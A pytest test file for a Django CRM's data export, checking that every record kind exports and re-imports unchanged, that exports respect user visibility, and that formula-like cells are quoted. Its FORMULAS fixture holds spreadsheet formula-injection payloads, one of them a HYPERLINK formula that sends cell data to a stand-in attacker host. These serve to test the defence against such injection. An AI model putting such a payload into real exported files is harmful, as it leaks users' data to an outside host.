"""Exports: every kind, CSV with a BOM or XLSX, the importer's own column names, records limited
to what the user may see, and files that import back onto the same records unchanged."""

import codecs
import io

import pytest
from django.core.management import call_command

from clm.commerce.models import Order, Product
from clm.customers.models import Account, Contact
from clm.io.export import export_file, header
from clm.io.kinds import KINDS, get_kind
from clm.io.mapping import map_columns
from clm.io.readers import open_table
from tests.io.conftest import run, snapshot

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize("kind", list(KINDS))
def test_the_importer_recognises_every_exported_column(kind):
    spec = get_kind(kind)
    mapping = map_columns(spec, header(spec))
    assert mapping.ignored == [] and mapping.problems == []


@pytest.fixture
def company(files):
    """A little of everything, imported."""
    Product.objects.create(name="CLM Pro", source="import", external_id="P1", list_price=999)
    imports = {
        "accounts": [["Account ID", "Account Name", "Industry", "Employees", "Annual Revenue", "Customer Since", "Pain Points", "Parent Account"],
                     ["A1", "华为", "通信", "1000", "1234.5", "2024-03-01", "效率低; 成本高", ""], ["A2", "Acme", "", "", "", "", "", "A1"]],
        "contacts": [["Contact ID", "Account ID", "Name", "Email", "Role", "Key Person"], ["C1", "A1", "张伟", "zw@hw.com", "决策者", "是"]],
        "subscriptions": [["Contract ID", "Account", "Product", "Start Date", "MRR", "Seats", "Auto Renew"], ["S1", "A1", "P1", "2024-01-01", "1000", "10", "yes"]],
        "orders": [["Order ID", "Account", "Order Date", "Product", "Quantity", "Amount", "Cost"],
                   ["O1", "A1", "2024-03-01", "P1", "2", "2000", "500"], ["O1", "A1", "2024-03-01", "", "1", "50", ""]],
        "payments": [["Payment ID", "Account", "Order", "Due Date", "Amount", "Status"], ["PAY1", "A1", "O1", "2024-04-01", "2050", "open"]],
        "tickets": [["Ticket ID", "Account", "Contact", "Subject", "Priority", "Opened At", "CSAT"], ["T1", "A1", "C1", "登录失败", "高", "2024-03-01 09:30:15", "4"]],
        "survey_responses": [["Response ID", "Account", "Score", "Responded At", "Comment"], ["R1", "A1", "9", "2024-03-01 10:00", "好用, 但慢"]],
        "leads": [["Lead ID", "Name", "Company", "Status", "MAL At"], ["L1", "Ann", "Beta", "mql", "2024-02-01 08:00"]],
        "opportunities": [["Opportunity ID", "Account", "Name", "Stage", "Amount"], ["OP1", "A2", "Expansion", "proposal", "5000"]],
        "channel_spend": [["Channel", "Month", "Amount"], ["百度", "2024-03", "12000"]],
        "interactions": [["Interaction ID", "Account", "Type", "Occurred At", "Summary"], ["I1", "A1", "call", "2024-03-01 11:00", "续约沟通"]],
    }
    for kind, rows in imports.items():
        report = run(kind, files.csv(f"{kind}.csv", rows))
        assert report.status == "done", (kind, report.errors, report.problems)
    from django.utils import timezone
    stamp = timezone.localtime().replace(microsecond=0).strftime("%Y-%m-%d %H:%M:%S")
    assert run("usage_events", files.csv("events.csv", [["Account", "Event", "Occurred At", "Properties"], ["A1", "login", stamp, '{"ip": "1.2.3.4"}']])).created == 1


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_an_export_of_every_kind_imports_back_without_changing_anything(company, tmp_path, suffix):
    before = snapshot()
    for kind in KINDS:
        path = tmp_path / f"{kind}{suffix}"
        export_file(kind, path)
        report = run(kind, path)
        assert report.status == "done", (kind, report.problems, report.errors[:3])
        assert (report.created, report.updated) == (0, 0), (kind, report.to_dict())
    assert snapshot() == before


def test_records_made_in_clm_export_with_their_clm_id_and_import_back_onto_themselves(company, tmp_path):
    manual = Account.objects.create(name="Hand made")
    Contact.objects.create(account=manual, name="Pat")
    order = Order.objects.create(account=manual, ordered_on="2024-01-05", amount=70, cost=10)
    for kind in ("accounts", "contacts", "orders"):
        export_file(kind, tmp_path / f"{kind}.csv")
    before = snapshot()
    for kind in ("accounts", "contacts"):
        assert run(kind, tmp_path / f"{kind}.csv").unchanged >= 1
    assert snapshot() == before
    assert f"clm:{manual.pk}" in (tmp_path / "contacts.csv").read_text(encoding="utf-8-sig")
    report = run("orders", tmp_path / "orders.csv")  # a line-less order gets the line its totals describe
    assert report.updated == 1 and order.lines.get().amount == 70


def test_csv_exports_start_with_a_bom_so_excel_reads_chinese(company, tmp_path):
    export_file("accounts", tmp_path / "a.csv")
    data = (tmp_path / "a.csv").read_bytes()
    assert data.startswith(codecs.BOM_UTF8)
    assert "华为" in data.decode("utf-8-sig")
    assert open_table(tmp_path / "a.csv").encoding == "utf-8-sig"


def test_an_export_shows_a_user_only_the_accounts_they_see(team_visibility, owner, outsider, tmp_path):
    mine = Account.objects.create(name="Mine", sales_owner=owner)
    theirs = Account.objects.create(name="Theirs", sales_owner=outsider)
    Contact.objects.create(account=mine, name="mine-contact")
    Contact.objects.create(account=theirs, name="their-contact")
    export_file("accounts", tmp_path / "a.csv", user=outsider)
    export_file("contacts", tmp_path / "c.csv", user=outsider)
    accounts = (tmp_path / "a.csv").read_text(encoding="utf-8-sig")
    contacts = (tmp_path / "c.csv").read_text(encoding="utf-8-sig")
    assert "Theirs" in accounts and "Mine" not in accounts
    assert "their-contact" in contacts and "mine-contact" not in contacts


def test_clm_export_command_honours_as_user(team_visibility, owner, outsider, tmp_path):
    Account.objects.create(name="Mine", sales_owner=owner)
    Account.objects.create(name="Theirs", sales_owner=outsider)
    call_command("export", "accounts", str(tmp_path / "all.xlsx"))
    call_command("export", "accounts", str(tmp_path / "theirs.csv"), "--as-user", "outsider")
    rows = [chunk.frame for chunk in open_table(tmp_path / "all.xlsx").chunks()][0]
    assert sorted(rows[2]) == ["Mine", "Theirs"]
    assert "Mine" not in (tmp_path / "theirs.csv").read_text(encoding="utf-8-sig")


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(1,1)",
    "\tcmd",
    "\r=1",
    "'=already quoted",
]


@pytest.fixture
def formula_accounts(db):
    for i, name in enumerate(FORMULAS):
        account = Account.objects.create(name=name, external_id=f"F{i}", source="import", industry="=1+1")
        Order.objects.create(account=account, external_id=f"R{i}", source="import", ordered_on="2024-01-05", amount=-1500, cost=0)


def test_a_csv_export_quotes_text_a_spreadsheet_would_run_and_keeps_numbers(formula_accounts, tmp_path):
    import csv

    for kind in ("accounts", "orders"):
        export_file(kind, tmp_path / f"{kind}.csv")
    with open(tmp_path / "accounts.csv", encoding="utf-8-sig", newline="") as fh:
        raw = fh.read()
    rows = list(csv.DictReader(io.StringIO(raw.replace("\r=", "CR="))))  # csv reads CR in a cell as LF
    assert [row["Name"].replace("CR=", "\r=") for row in rows] == ["'" + name for name in FORMULAS]
    assert {row["Industry"] for row in rows} == {"'=1+1"}
    with open(tmp_path / "orders.csv", encoding="utf-8-sig", newline="") as fh:
        assert {row["Amount"] for row in csv.DictReader(fh)} == {"-1500.00"}  # a refund stays a number


def test_an_xlsx_export_holds_no_formula_and_keeps_numbers_typed(formula_accounts, tmp_path):
    from openpyxl import load_workbook

    for kind in ("accounts", "orders"):
        export_file(kind, tmp_path / f"{kind}.xlsx")
    sheet = load_workbook(tmp_path / "accounts.xlsx").active
    assert not [c.value for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    names = [row[header(get_kind("accounts")).index("Name")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert names == ["'" + name.replace("\r", "\n") for name in FORMULAS]  # XML reads CR as LF
    sheet = load_workbook(tmp_path / "orders.xlsx").active
    amounts = {row[header(get_kind("orders")).index("Amount")] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert amounts == {-1500}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_quoted_text_imports_back_as_it_was(formula_accounts, tmp_path, suffix):
    export_file("accounts", tmp_path / f"accounts{suffix}")
    Account.objects.update(name="changed", industry="changed")
    report = run("accounts", tmp_path / f"accounts{suffix}")
    assert report.status == "done", (report.problems, report.errors[:3])
    names = dict(Account.objects.values_list("external_id", "name"))
    expected = {f"F{i}": name for i, name in enumerate(FORMULAS)}
    if suffix == ".xlsx":  # XML reads a CR in text as LF, so the cell comes back as "'\n=1"
        assert names.pop("F5") == "'\n=1"
        del expected["F5"]
    assert names == expected
    assert set(Account.objects.values_list("industry", flat=True)) == {"=1+1"}


def test_the_workspace_export_quotes_formulas_too(formula_accounts, admin_user, client):
    client.force_login(admin_user)
    body = b"".join(client.get("/accounts/export.csv").streaming_content).decode("utf-8-sig")
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in body
    assert "\n=" not in body and ",=" not in body
